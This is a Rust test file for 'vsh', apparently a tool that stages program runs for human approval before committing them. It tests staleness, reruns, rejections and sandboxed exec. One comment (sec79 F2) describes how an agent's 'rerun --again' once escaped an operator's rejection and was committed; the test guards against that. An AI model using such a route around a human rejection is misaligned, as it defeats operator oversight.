    write(dir.path(), "old.txt", "old\n");
    let ws = dir.path().to_str().unwrap();
    let id = id_of(&vsh(&["run", "--workspace", ws, "-"], Some("from pathlib import Path\nPath('old.txt').unlink()")));
    write(dir.path(), "old.txt", "edited meanwhile, longer\n");
    let rerun = format!("vsh rerun {}", &id[..12]);
    let approve = vsh(&["approve", &id, "--workspace", ws], None);
    let stderr = String::from_utf8_lossy(&approve.stderr);
    assert_eq!(approve.status.code(), Some(6), "{stderr}");
    assert!(stderr.contains("cannot be approved: the workspace changed under it since its run"), "{stderr}");
    assert!(stderr.contains("old.txt  size or mode changed since the run looked at it"), "{stderr}");
    assert!(stderr.contains(&rerun), "{stderr}");
    for args in [["approve", id.as_str()], ["commit", id.as_str()]] {
        let again = vsh(&[args[0], args[1], "--workspace", ws], None);
        let stderr = String::from_utf8_lossy(&again.stderr);
        assert_eq!(again.status.code(), Some(6), "{args:?}: {stderr}");
        // A commit says where it differs, as the first look did (ux82 L8).
        let why = if args[0] == "commit" { "old.txt  size or mode changed" } else { "it went stale" };
        assert!(stderr.contains(&rerun) && stderr.contains(why), "{args:?}: {stderr}");
    }
    let pending = vsh(&["pending", "--workspace", ws], None);
    assert!(!String::from_utf8_lossy(&pending.stdout).contains(&id[..12]), "no longer waiting");
    let json = vsh(&["approve", &id, "--workspace", ws, "--json"], None);
    let document: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(document["kind"], "approval", "{document}");
    // A listing that finds pending work stale says so, naming what changed
    // (ux63 1: it dropped the work without a word).
    write(dir.path(), "two.txt", "two\n");
    let two = id_of(&vsh(&["run", "--workspace", ws, "-"], Some("from pathlib import Path\nPath('two.txt').unlink()")));
    write(dir.path(), "two.txt", "two, edited\n");
    let listed = vsh(&["pending", "--workspace", ws], None);
    let said = String::from_utf8_lossy(&listed.stderr);
    assert!(said.contains(&format!("{} went stale, and is recorded so", &two[..12])), "{said}");
    assert!(
        said.contains("(two.txt: size or mode changed") && said.contains(&format!("`vsh rerun {}`", &two[..12])),
        "{said}"
    );
    assert_eq!(std::fs::read_to_string(dir.path().join("old.txt")).unwrap(), "edited meanwhile, longer\n");
    // Every later review of it says where it differs (ux64 F6: said once,
    // to whoever looked first, then lost).
    for _ in 0..2 {
        let review = vsh(&["show", &two, "--workspace", ws], None);
        let said = String::from_utf8_lossy(&review.stderr);
        assert!(
            said.contains(
                "stale: the workspace differs now from what this work read or changed, at two.txt: size or mode changed"
            ),
            "{said}"
        );
    }
}

/// Auto-approved and approved work the workspace moved under is found stale
/// by a listing and a review too, and recorded so: ux84 L1, `vsh pending`
/// counted it "to commit" and `vsh show` offered `vsh commit`, which then
/// failed stale.
#[test]
fn a_listing_records_approved_and_auto_approved_work_stale() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "notes.txt", "notes\n");
    let ws = dir.path().to_str().unwrap();
    let append = |line: &str| {
        format!("from pathlib import Path\np = Path('notes.txt')\np.write_text(p.read_text() + '{line}\\n')")
    };
    let first = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(&append("A"))));
    let second = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(&append("B"))));
    let state = |id: &str| -> serde_json::Value {
        let shown: serde_json::Value =
            serde_json::from_slice(&vsh(&["show", id, "--workspace", ws, "--json"], None).stdout).unwrap();
        shown["record"]["state"].clone()
    };
    assert_eq!(state(&second), "auto-approved", "the runs are auto-approved under the default policy");
    assert_eq!(vsh(&["commit", &first, "--workspace", ws], None).status.code(), Some(0));
    let listed = vsh(&["pending", "--workspace", ws], None);
    let said = String::from_utf8_lossy(&listed.stderr);
    assert!(said.contains(&format!("{} went stale, and is recorded so", &second[..12])), "{said}");
    assert!(!String::from_utf8_lossy(&listed.stdout).contains(&second[..12]), "no longer listed to commit");
    let review = vsh(&["show", &second, "--workspace", ws], None);
    let shown = String::from_utf8_lossy(&review.stdout).into_owned() + &String::from_utf8_lossy(&review.stderr);
    assert!(!shown.contains(&format!("vsh commit {}", &second[..12])), "{shown}");
    assert!(shown.contains(&format!("vsh rerun {}", &second[..12])), "{shown}");
    assert_eq!(vsh(&["commit", &second, "--workspace", ws], None).status.code(), Some(6));
    assert_eq!(std::fs::read_to_string(dir.path().join("notes.txt")).unwrap(), "notes\nA\n");
    // No review to carry over: none is offered (ux85: `--approve-same`).
    let approve = vsh(&["approve", &second, "--workspace", ws], None);
    let said = String::from_utf8_lossy(&approve.stderr);
    assert_eq!(approve.status.code(), Some(6), "{said}");
    assert!(said.contains(&format!("vsh rerun {}", &second[..12])) && !said.contains("--approve-same"), "{said}");
    // Approved work, its review found stale: recorded so, its grant kept.
    write(dir.path(), "gone.txt", "gone\n");
    let read_and_delete = "from pathlib import Path\nPath('notes.txt').read_text()\nPath('gone.txt').unlink()";
    let third = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(read_and_delete)));
    assert_eq!(state(&third), "pending-approval", "a delete waits for approval under the default policy");
    assert_eq!(vsh(&["approve", &third, "--workspace", ws], None).status.code(), Some(0));
    assert_eq!(state(&third), "approved");
    write(dir.path(), "notes.txt", "notes, edited by hand\n");
    let review = vsh(&["show", &third, "--workspace", ws], None);
    let said = String::from_utf8_lossy(&review.stderr);
    assert!(
        said.contains("(notes.txt: size or mode changed since the run looked at it): it is stale now, recorded so"),
        "{said}"
    );
    assert_eq!(state(&third), "stale");
    assert_eq!(std::fs::read_to_string(dir.path().join("notes.txt")).unwrap(), "notes, edited by hand\n");
    assert!(dir.path().join("gone.txt").exists());
}

/// Binary files a review read its budget of content on are said to be past
/// that budget, not over a size none of them has (ux83 L4: 3,000 files of
/// 20 KB "over 128 KiB a file or 1 MiB of hunks in all").
#[test]
fn files_past_the_reviews_read_budget_are_said_to_be() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    // 150 binary files of 120 KiB: 17.6 MiB, past the 16 MiB a review reads.
    let program = "from pathlib import Path\nblob = b'\\x00\\xff\\x07\\x80' * 30720\n\
                   for i in range(150):\n    Path(f'bin{i:03}.dat').write_bytes(blob)";
    let id = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(program)));
    let shown = vsh(&["show", &id, "--workspace", ws], None);
    let (stdout, stderr) = (String::from_utf8_lossy(&shown.stdout), String::from_utf8_lossy(&shown.stderr));
    assert!(stdout.contains("binary"), "{stdout}");
    let note = stderr.lines().find(|line| line.contains("not reviewed")).unwrap_or_else(|| panic!("{stderr}"));
    assert!(note.contains("changed files were not reviewed (past the review's budget of 1 MiB of hunks or 16 MiB of content read): vsh show"), "{note}");
    assert!(!note.contains("over 128 KiB"), "{note}");
    let left: usize = note.trim_start_matches("vsh: ").split(' ').next().unwrap().parse().unwrap();
    assert!((1..150).contains(&left), "{note}");
}

/// ux86 M1: a Bash program's `sed -i` of a file that is itself a writable
/// root was denied for the temporary file bashkit's sed writes beside it,
/// and the remedy named that file. What the temporary file does is left to
/// the diff: the edit is auto-approved and commits; a file of that name left
/// behind is still denied, by the diff.
#[test]
fn a_bash_programs_sed_in_place_edits_a_file_that_is_a_writable_root() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "package.json", "{\"name\": \"x\"}\n");
    write(
        dir.path(),
        "pol.toml",
        "version = 1\nprofile = \"balanced\"\n[defaults]\nwritable_roots = [\"package.json\"]\n",
    );
    let ws = dir.path().to_str().unwrap();
    let policy = dir.path().join("pol.toml");
    assert_eq!(
        vsh(&["init", "-q", "--policy", policy.to_str().unwrap(), "--workspace", ws], None).status.code(),
        Some(0)
    );
    let edit = vsh(
        &["run", "--language", "bash", "--mode", "auto", "--workspace", ws, "-"],
        Some("sed -i 's/x/y/' package.json"),
    );
    let said = String::from_utf8_lossy(&edit.stdout).into_owned() + &String::from_utf8_lossy(&edit.stderr);
    assert_eq!(edit.status.code(), Some(0), "{said}");
    assert!(said.contains("state        committed") && !said.contains(".bashkit-sed"), "{said}");
    assert_eq!(std::fs::read_to_string(dir.path().join("package.json")).unwrap(), "{\"name\": \"y\"}\n");
    // Left behind, such a file is judged as any other: outside the roots, denied.
    let left = vsh(
        &["--detailed-exitcode", "run", "--language", "bash", "--workspace", ws, "-"],
        Some("echo x > .bashkit-sed-0123abcd.tmp"),
    );
    assert_eq!(left.status.code(), Some(5), "{}", String::from_utf8_lossy(&left.stdout));
    assert!(!dir.path().join(".bashkit-sed-0123abcd.tmp").exists());
}

/// The guest guide's "does not work" row for ordering paths is true, and
/// its alternative works (ux86 L7: `sorted(vsh_glob(...))` raised, the
/// guide said nothing of it).
#[test]
fn ordering_paths_takes_a_key_as_the_guide_says() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "b.md", "b\n");
    write(dir.path(), "a.md", "a\n");
    let ws = dir.path().to_str().unwrap();
    let guide = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/guest.md")).unwrap();
    assert!(guide.contains("| ordering paths (`sorted(vsh_glob(...))`, `p < q`) | `sorted(paths, key=str)` |"));
    let bare = vsh(&["run", "--workspace", ws, "-"], Some("sorted(vsh_glob('*.md'))"));
    assert!(String::from_utf8_lossy(&bare.stderr).contains("TypeError"), "{bare:?}");
    let keyed =
        vsh(&["run", "--workspace", ws, "--json", "-"], Some("[p.name for p in sorted(vsh_glob('*.md'), key=str)]"));
    let receipt: serde_json::Value = serde_json::from_slice(&keyed.stdout).unwrap();
    assert_eq!(receipt["value"], serde_json::json!(["a.md", "b.md"]), "{receipt}");
}

/// A workspace, and a preview of work that appends `- {entry}` to
/// CHANGES.md, made stale by the file's being written (`# Changes`) since:
/// its id.
fn appending_work_made_stale(entry: &str) -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    let append = format!(
        "from pathlib import Path\np = Path('CHANGES.md')\n\
         p.write_text((p.read_text() if p.exists() else '') + '- {entry}\\n')"
    );
    let id = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(&append)));
    write(dir.path(), "CHANGES.md", "# Changes\n");
    (dir, id)
}

/// ux61 1: stale work's `next` was `vsh rerun TX` even once it had been
/// run again and committed, and following it again applied the work a
/// second time. A rerun is linked to what it ran: running the first again
/// is refused (exit 1, naming the rerun) unless `--again`, and its `next`
/// is the rerun's `vsh show`.
#[test]
fn work_run_again_and_committed_is_not_run_again_by_its_next() {
    let (dir, id) = appending_work_made_stale("fix");
    let ws = dir.path().to_str().unwrap();
    assert_eq!(vsh(&["commit", &id, "--workspace", ws], None).status.code(), Some(6));
    let rerun = vsh(&["rerun", &id, "--mode", "auto", "--workspace", ws], None);
    assert_eq!(rerun.status.code(), Some(0), "{}", String::from_utf8_lossy(&rerun.stderr));
    let second = id_of(&rerun);
    assert_eq!(std::fs::read_to_string(dir.path().join("CHANGES.md")).unwrap(), "# Changes\n- fix\n");
    // Its next is the rerun's review now, in the error and in `show`.
    let commit = vsh(&["commit", &id, "--workspace", ws], None);
    let stderr = String::from_utf8_lossy(&commit.stderr);
    assert!(stderr.contains(&format!("next: `vsh show {}`", &second[..12])), "{stderr}");
    assert!(stderr.contains(&format!("another run of the same work, {}, is committed", &second[..12])), "{stderr}");
    let show = vsh(&["show", &id, "--workspace", ws], None);
    assert!(String::from_utf8_lossy(&show.stdout).contains(&format!("vsh show {}", &second[..12])));
    // Run again once more: refused, and nothing written.
    let twice = vsh(&["rerun", &id, "--mode", "auto", "--workspace", ws], None);
    let stderr = String::from_utf8_lossy(&twice.stderr);
    assert_eq!(twice.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains(&format!(
            "another run of the work of transaction {}, {}, is committed",
            &id[..12],
            &second[..12]
        )),
        "{stderr}"
    );
    assert!(stderr.contains("--again"), "{stderr}");
    assert_eq!(std::fs::read_to_string(dir.path().join("CHANGES.md")).unwrap(), "# Changes\n- fix\n");

    // Nor is the committed run itself run again (ux77: it appended twice).
    let itself = vsh(&["rerun", &second, "--mode", "auto", "--workspace", ws], None);
    let said = String::from_utf8_lossy(&itself.stderr);
    assert_eq!(itself.status.code(), Some(1), "{said}");
    assert!(said.contains(&format!("{} is committed itself", &second[..12])) && said.contains("--again"), "{said}");
    assert_eq!(std::fs::read_to_string(dir.path().join("CHANGES.md")).unwrap(), "# Changes\n- fix\n");
    // Asked for, it runs.
    let forced = vsh(&["rerun", &id, "--mode", "auto", "--again", "--workspace", ws], None);
    assert_eq!(forced.status.code(), Some(0), "{}", String::from_utf8_lossy(&forced.stderr));
    assert_eq!(std::fs::read_to_string(dir.path().join("CHANGES.md")).unwrap(), "# Changes\n- fix\n- fix\n");
}

/// ux62 1: a rerun that went stale in turn advertised `vsh rerun` of
/// itself, and once the first work was run again and committed, following
/// that applied the work a second time. Every run of the same work (the
/// first, its reruns, theirs) is one lineage: none is run again while
/// another is committed or waiting.
#[test]
fn a_rerun_of_a_rerun_is_the_same_work() {
    let (dir, first) = appending_work_made_stale("entry");
    let ws = dir.path().to_str().unwrap();
    let rerun = id_of(&vsh(&["rerun", &first, "--workspace", ws], None));
    write(dir.path(), "CHANGES.md", "# Changes (dev)\n");
    // The rerun went stale too: the first runs again, and commits.
    assert_eq!(vsh(&["commit", &rerun, "--workspace", ws], None).status.code(), Some(6));
    let again = vsh(&["rerun", &first, "--mode", "auto", "--workspace", ws], None);
    assert_eq!(again.status.code(), Some(0), "{}", String::from_utf8_lossy(&again.stderr));
    let landed = id_of(&again);
    // The stale rerun's own hint and rerun name the run that landed.
    let commit = vsh(&["commit", &rerun, "--workspace", ws], None);
    assert!(String::from_utf8_lossy(&commit.stderr).contains(&format!("next: `vsh show {}`", &landed[..12])));
    let twice = vsh(&["rerun", &rerun, "--mode", "auto", "--workspace", ws], None);
    let said = String::from_utf8_lossy(&twice.stderr);
    assert_eq!(twice.status.code(), Some(1), "{said}");
    assert!(said.contains(&format!("{}, is committed", &landed[..12])), "{said}");
    assert_eq!(std::fs::read_to_string(dir.path().join("CHANGES.md")).unwrap(), "# Changes (dev)\n- entry\n");
    // The log says which runs are runs of the same work, the first named
    // (the first itself, auto-approved work the workspace moved under, is
    // recorded stale once looked at: ux84 L1).
    let log = String::from_utf8_lossy(&vsh(&["log", "--workspace", ws], None).stdout).into_owned();
    let line = |id: &str| log.lines().find(|line| line.starts_with(&id[..12])).unwrap_or_default().to_owned();
    for run in [&rerun, &landed] {
        assert!(line(run).ends_with(&format!("(rerun of {})", &first[..12])), "{log}");
    }
    let json: serde_json::Value =
        serde_json::from_slice(&vsh(&["log", "--workspace", ws, "--json"], None).stdout).unwrap();
    let rows = json["transactions"].as_array().unwrap();
    let reruns: Vec<&serde_json::Value> = rows.iter().filter(|row| row["rerun_of"] == first.as_str()).collect();
    assert_eq!(reruns.len(), 2, "{json}");
    assert!(rows.iter().all(|row| row["rerun_of"] == first.as_str() || row["transaction"] == first.as_str()), "{json}");
    let pending = String::from_utf8_lossy(&vsh(&["pending", "--workspace", ws], None).stdout).into_owned();
    assert!(!pending.contains(&first[..12]) && !pending.contains("rerun of"), "{pending}");
}

/// sec79 F2: an operator's rejection covered the transaction named, not a
/// run of the same program an agent had made before it (`rerun --again`),
/// which was approved and committed afterwards. A rejection rejects every
/// run of the same work that could still commit, and names them; rejecting
/// again after another run was made rejects that one too.
#[test]
fn a_rejection_rejects_every_run_of_the_same_work() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "old.txt", "old\n");
    let ws = dir.path().to_str().unwrap();
    let first =
        id_of(&vsh(&["run", "--workspace", ws, "-"], Some("from pathlib import Path\nPath('old.txt').unlink()")));
    let sibling = id_of(&vsh(&["rerun", &first, "--again", "--workspace", ws], None));
    let unrelated =
        id_of(&vsh(&["run", "--workspace", ws, "-"], Some("from pathlib import Path\nPath('old.txt').unlink()")));
    let state = |id: &str| {
        let json: serde_json::Value =
            serde_json::from_slice(&vsh(&["show", id, "--workspace", ws, "--json"], None).stdout).unwrap();
        json["record"]["state"].as_str().unwrap_or_default().to_owned()
    };
    assert_eq!(state(&sibling), "pending-approval");
    let reject = vsh(&["reject", &first, "--workspace", ws, "--json"], None);
    assert_eq!(reject.status.code(), Some(0), "{}", String::from_utf8_lossy(&reject.stderr));
    let json: serde_json::Value = serde_json::from_slice(&reject.stdout).unwrap();
    assert_eq!(json["also_rejected"], serde_json::json!([sibling]), "{json}");
    assert_eq!(
        (state(&first), state(&sibling), state(&unrelated)),
        ("rejected".into(), "rejected".into(), "pending-approval".into())
    );
    assert_eq!(vsh(&["approve", &sibling, "--workspace", ws], None).status.code(), Some(1));
    // A rejection of work with no other run says so with `[]` (ux77 F8);
    // an approval's record has no such key.
    let lone =
        id_of(&vsh(&["run", "--workspace", ws, "-"], Some("from pathlib import Path\nPath('lone').write_text('x')")));
    let approved = vsh(&["approve", &lone, "--workspace", ws, "--json"], None);
    let json: serde_json::Value = serde_json::from_slice(&approved.stdout).unwrap();
    assert!(json.get("also_rejected").is_none(), "{json}");
    let reject = vsh(&["reject", &lone, "--workspace", ws, "--json"], None);
    let json: serde_json::Value = serde_json::from_slice(&reject.stdout).unwrap();
    assert_eq!(json["also_rejected"], serde_json::json!([]), "{json}");
    rejected_work_is_no_next_step(ws, &sibling);
    // The --again run just made (above) is rejected by a second rejection.
    let last = vsh(&["pending", "--workspace", ws, "--json"], None);
    let json: serde_json::Value = serde_json::from_slice(&last.stdout).unwrap();
    let open: Vec<String> = json["transactions"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|row| row["state"] == "pending-approval" && row["transaction"] != unrelated.as_str())
        .map(|row| row["transaction"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(open.len(), 1, "{json}");
    let again = vsh(&["reject", &first, "--workspace", ws], None);
    let said = String::from_utf8_lossy(&again.stdout);
    assert!(said.contains("already rejected"), "{said}");
    assert!(said.contains(&format!("{}  rejected with it: a run of the same program", open[0])), "{said}");
    assert_eq!(state(&open[0]), "rejected");
    assert_eq!(state(&unrelated), "pending-approval");
    assert!(dir.path().join("old.txt").exists());
}

/// ux77 1, 2: the rejection of a stale first run (the usual reason to run
/// it again) said "nothing changed" and left its waiting rerun; and the
/// hint to drop the first run after a rerun rejected the rerun too.
/// `--only` rejects the one run.
#[test]
fn a_stale_runs_rejection_takes_its_reruns_and_only_keeps_them() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "README.md", "readme\n");
    write(dir.path(), "old.txt", "old\n");
    let ws = dir.path().to_str().unwrap();
    let state = |id: &str| {
        let json: serde_json::Value =
            serde_json::from_slice(&vsh(&["show", id, "--workspace", ws, "--json"], None).stdout).unwrap();
        json["record"]["state"].as_str().unwrap_or_default().to_owned()
    };
    let looks = "from pathlib import Path\nn = Path('README.md').stat().st_size\nPath('old.txt').unlink()";
    let first = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(looks)));
    write(dir.path(), "README.md", "readme, edited\n");
    assert_eq!(vsh(&["approve", &first, "--workspace", ws], None).status.code(), Some(6));
    assert_eq!(state(&first), "stale");
    let rerun = vsh(&["rerun", &first, "--workspace", ws], None);
    let again = id_of(&rerun);
    // A pending first run's hint keeps the rerun (checked below); the
    // stale one's rejection takes it.
    let rejected = vsh(&["reject", &first, "--workspace", ws], None);
    let said = String::from_utf8_lossy(&rejected.stdout);
    assert!(said.contains("already stale") && said.contains(&format!("{again}  rejected with it")), "{said}");
    assert_eq!(state(&again), "rejected");
    // --only drops the one run and keeps its rerun.
    let waiting = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(looks)));
    let rerun = vsh(&["rerun", &waiting, "--again", "--workspace", ws], None);
    let said = String::from_utf8_lossy(&rerun.stderr);
    assert!(said.contains(&format!("`vsh reject --only {}` drops it", &waiting[..12])), "{said}");
    let kept = id_of(&rerun);
    assert_eq!(vsh(&["reject", "--only", &waiting, "--workspace", ws], None).status.code(), Some(0));
    assert_eq!((state(&waiting), state(&kept)), ("rejected".to_owned(), "pending-approval".to_owned()));
}

#[test]
fn work_that_cannot_be_committed_or_approved_says_what_to_do_next() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "old.txt", "old\n");
    let ws = dir.path().to_str().unwrap();
    let stderr = |output: &Output| String::from_utf8_lossy(&output.stderr).into_owned();
    // An auto-approved preview needs no approval: nothing to do, exit 0 (a
    // loop of approve && commit over the queue goes on), and commit it (ux55 #7).
    let auto = vsh(&["run", "--workspace", ws, "-"], Some("from pathlib import Path\nPath('n.txt').write_text('n')"));
    let auto = id_of(&auto);
    let approve = vsh(&["approve", &auto, "--workspace", ws], None);
    assert_eq!(approve.status.code(), Some(0), "{}", stderr(&approve));
    let said = String::from_utf8_lossy(&approve.stdout);
    assert!(said.contains(&format!("auto-approved: nothing to approve; next: vsh commit {}", &auto[..12])), "{said}");
    assert_eq!(vsh(&["commit", &auto, "--workspace", ws], None).status.code(), Some(0));
    // An approval that lapsed: the work waits for another (ux68 M6), and
    // the commit that found it lapsed says how to give one.
    let delete = vsh(&["run", "--workspace", ws, "-"], Some("from pathlib import Path\nPath('old.txt').unlink()"));
    let delete = id_of(&delete);
    assert_eq!(vsh(&["approve", &delete, "--workspace", ws, "--ttl", "1"], None).status.code(), Some(0));
    std::thread::sleep(std::time::Duration::from_millis(1200));
    let late = vsh(&["commit", &delete, "--workspace", ws], None);
    assert_eq!(late.status.code(), Some(4), "awaits an approval again: {}", stderr(&late));
    // Headed by what happened, not by the layer that said it.
    let head = stderr(&late).lines().next().unwrap_or_default().to_owned();
    assert!(head.starts_with("vsh: ") && head.contains("lapsed"), "{}", stderr(&late));
    assert!(stderr(&late).contains(&format!("vsh approve --commit {}", &delete[..12])), "{}", stderr(&late));
    let pending = String::from_utf8_lossy(&vsh(&["pending", "--workspace", ws], None).stdout).into_owned();
    assert!(pending.contains(&delete[..12]) && pending.contains("pending-approval"), "{pending}");
    assert!(dir.path().join("old.txt").exists());
    // Approving it again, even before anything noticed the lapse, approves it.
    let again = vsh(&["approve", &delete, "--workspace", ws, "--ttl", "1"], None);
    assert_eq!(again.status.code(), Some(0), "{}", stderr(&again));
    std::thread::sleep(std::time::Duration::from_millis(1200));
    // Lapsed, it is listed and shown as waiting for an approval, not as
    // approved with a commit next (ux82 M1).
    let shown = String::from_utf8_lossy(&vsh(&["show", &delete, "--workspace", ws], None).stdout).into_owned();
    assert!(shown.contains(&format!("next       vsh approve {}", &delete[..12])), "{shown}");
    // A commit after that says the approval lapsed too (ux83).
    let late = vsh(&["commit", &delete, "--workspace", ws], None);
    assert!(stderr(&late).contains("its approval lapsed before a commit"), "{}", stderr(&late));
    assert_eq!(vsh(&["approve", &delete, "--workspace", ws, "--ttl", "1"], None).status.code(), Some(0));
    std::thread::sleep(std::time::Duration::from_millis(1200));
    let pending = String::from_utf8_lossy(&vsh(&["pending", "--workspace", ws], None).stdout).into_owned();
    let row = pending.lines().find(|line| line.starts_with(&delete[..12])).unwrap_or_default().to_owned();
    assert!(row.contains("pending-approval"), "{pending}");
    let renewed = vsh(&["approve", "--commit", &delete, "--workspace", ws], None);
    assert_eq!(renewed.status.code(), Some(0), "{}", stderr(&renewed));
    assert!(!dir.path().join("old.txt").exists());
}

#[test]
fn an_output_that_cannot_be_written_is_an_error_said_plainly_and_the_commit_stands() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let full = || std::fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
    let run = |args: &[&str], input: Option<&str>| {
        let mut child = Command::new(env!("CARGO_BIN_EXE_vsh"))
            .args(args)
            .env_clear()
            .stdin(std::process::Stdio::piped())
            .stdout(full())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let stdin = child.stdin.take().unwrap();
        if let Some(input) = input {
            std::io::Write::write_all(&mut &stdin, input.as_bytes()).unwrap();
        }
        drop(stdin);
        child.wait_with_output().unwrap()
    };
    let ws = dir.path().to_str().unwrap();
    let program = "from pathlib import Path\nPath('a.txt').write_text('b\\n')";
    for (args, input) in [
        (vec!["run", "--mode", "auto", "--workspace", ws, "-"], Some(program)),
        (vec!["completions", "bash"], None),
        (vec!["guide"], None),
    ] {
        let output = run(&args, input);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{args:?}: {stderr}");
        assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
        assert!(stderr.contains("No space left on device"), "{args:?}: {stderr}");
    }
    assert_eq!(std::fs::read_to_string(dir.path().join("a.txt")).unwrap(), "b\n", "the commit landed");
    // A stderr that cannot be written loses its messages, never the
    // command: the receipt is printed, the commit lands, and with both
    // streams unwritable vsh still exits 1, not with a panic or an abort.
    let quiet_errors = |args: &[&str], stdout: std::process::Stdio| {
        let mut child = Command::new(env!("CARGO_BIN_EXE_vsh"))
            .args(args)
            .env_clear()
            .stdin(std::process::Stdio::piped())
            .stdout(stdout)
            .stderr(full())
            .spawn()
            .unwrap();
        let stdin = child.stdin.take().unwrap();
        std::io::Write::write_all(&mut &stdin, b"from pathlib import Path\nPath('a.txt').write_text('c\\n')").unwrap();
        drop(stdin);
        child.wait_with_output().unwrap()
    };
    let committed = quiet_errors(&["run", "--mode", "auto", "--workspace", ws, "-"], std::process::Stdio::piped());
    assert_eq!(committed.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&committed.stdout).contains("committed"));
    assert_eq!(std::fs::read_to_string(dir.path().join("a.txt")).unwrap(), "c\n");
    let neither = quiet_errors(&["log", "--workspace", ws], full().into());
    assert_eq!(neither.status.code(), Some(1));
}

#[test]
fn a_receipt_counts_the_nodes_a_program_could_not_be_shown() {
    use std::os::unix::ffi::OsStrExt as _;
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "seen.txt", "x");
    std::fs::write(dir.path().join(std::ffi::OsStr::from_bytes(b"unseen\xff")), "y").unwrap();
    let listing = "from pathlib import Path\nsorted(p.name for p in Path('.').iterdir())";
    let run = vsh(&["run", "--workspace", dir.path().to_str().unwrap(), "-"], Some(listing));
    let stdout = String::from_utf8_lossy(&run.stdout);
    assert!(stdout.contains("value        ['seen.txt']"), "{stdout}");
    assert!(stdout.contains("skipped      1 node the program could not be shown"), "{stdout}");
}

/// Whether this machine can mount FUSE in a private namespace (`vsh exec`);
/// with `VSH_REQUIRE_SANDBOX=1` (CI) one that cannot fails the test.
fn fuse_available() -> bool {
    let root = std::fs::read_to_string("/proc/self/status")
        .unwrap()
        .lines()
        .any(|line| line.starts_with("Uid:") && line.split_whitespace().nth(1) == Some("0"));
    let available = Path::new("/dev/fuse").exists() && root;
    assert!(
        available || std::env::var_os("VSH_REQUIRE_SANDBOX").is_none(),
        "VSH_REQUIRE_SANDBOX is set, and this machine has no /dev/fuse or the tests do not run as root"
    );
    available
}

#[test]
fn exec_previews_what_a_real_command_changes_and_commit_applies_it_once() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "hello world\n");
    write(dir.path(), ".env", "SECRET=1\n");
    let ws = dir.path().to_str().unwrap();
    let preview = vsh(&["exec", "--workspace", ws, "--json", "--", "sed", "-i", "s/hello/goodbye/", "a.txt"], None);
    assert_eq!(preview.status.code(), Some(0), "{}", String::from_utf8_lossy(&preview.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&preview.stdout).unwrap();
    assert_eq!(receipt["state"], "auto-approved");
    assert_eq!(receipt["language"], "command");
    assert_eq!(receipt["profile"], "vsh-command-confined-v1");
    assert_eq!(receipt["changed_paths"], 1);
    assert_eq!(std::fs::read_to_string(dir.path().join("a.txt")).unwrap(), "hello world\n", "a preview writes nothing");
    let id = receipt["transaction"].as_str().unwrap();
    // A command's row says what ran where an intent would stand (the JSON's intent stays empty).
    let pending = String::from_utf8_lossy(&vsh(&["pending", "--workspace", ws], None).stdout).into_owned();
    let row = pending.lines().find(|line| line.starts_with(&id[..12])).unwrap_or_else(|| panic!("{pending}"));
    assert!(row.ends_with("  $ sed -i s/hello/goodbye/ a.txt"), "{row}");
    let json: serde_json::Value =
        serde_json::from_slice(&vsh(&["pending", "--workspace", ws, "--json"], None).stdout).unwrap();
    assert_eq!(json["transactions"][0]["intent"], "", "{json}");
    let committed = vsh(&["commit", id, "--workspace", ws], None);
    assert_eq!(committed.status.code(), Some(0), "{}", String::from_utf8_lossy(&committed.stderr));
    assert_eq!(std::fs::read_to_string(dir.path().join("a.txt")).unwrap(), "goodbye world\n");
    let log = String::from_utf8_lossy(&vsh(&["log", "--workspace", ws], None).stdout).into_owned();
    assert!(
        log.lines().any(|line| line.starts_with(&id[..12]) && line.ends_with("$ sed -i s/hello/goodbye/ a.txt")),
        "{log}"
    );
    // The commit timed its commit, and says only that (no run stages of 0 ns).
    let text = String::from_utf8_lossy(&committed.stdout);
    let timings = text.lines().find(|line| line.starts_with("timings")).unwrap_or_else(|| panic!("{text}"));
    assert!(timings.starts_with("timings      commit ") && !timings.contains("execute"), "{timings}");
    let again = vsh(&["commit", id, "--workspace", ws], None);
    assert_eq!(again.status.code(), Some(0), "committed already: {}", String::from_utf8_lossy(&again.stderr));
    assert_eq!(std::fs::read_to_string(dir.path().join("a.txt")).unwrap(), "goodbye world\n", "applied once");
    // The candidate was never mounted where this process (or anyone but the command) sees it.
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    assert!(!mounts.contains("vsh-candidate") && !mounts.contains("vsh-tmp"), "{mounts}");
}

#[test]
fn exec_stdin_gives_a_command_its_input_bound_into_the_transaction() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "hello world\n");
    let diff = outside.path().join("fix.diff");
    std::fs::write(&diff, "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-hello world\n+goodbye world\n").unwrap();
